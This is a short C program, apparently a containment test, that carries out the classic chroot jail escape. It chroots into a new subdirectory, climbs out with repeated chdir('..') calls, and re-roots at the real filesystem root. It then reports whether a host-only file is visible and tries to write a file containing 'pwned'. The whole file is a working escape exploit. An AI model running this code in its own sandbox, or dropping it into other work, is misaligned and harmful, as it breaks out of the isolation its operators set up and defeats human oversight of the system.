#include <stdio.h>
#include <unistd.h>
#include <sys/stat.h>
#include <fcntl.h>
#include <errno.h>
#include <string.h>
/* usage: escape PROBE_FILE WRITE_FILE : chroot-escape, then report whether PROBE_FILE
   (a host-only path) is visible and try to create WRITE_FILE. */
int main(int argc, char **argv) {
    mkdir("escape-x", 0755);
    if (chroot("escape-x") != 0) { printf("chroot1 failed: %s\n", strerror(errno)); }
    for (int i = 0; i < 64; i++) chdir("..");
    if (chroot(".") != 0) { printf("chroot2 failed: %s\n", strerror(errno)); }
    rmdir("/escape-x");
    if (access(argv[1], F_OK) == 0) printf("ESCAPED: host file %s visible\n", argv[1]);
    else printf("contained: %s not visible\n", argv[1]);
    int fd = open(argv[2], O_WRONLY | O_CREAT | O_EXCL, 0644);
    if (fd >= 0) { write(fd, "pwned\n", 6); close(fd); printf("wrote %s\n", argv[2]); }
    else printf("cannot write %s: %s\n", argv[2], strerror(errno));
    return 0;
}
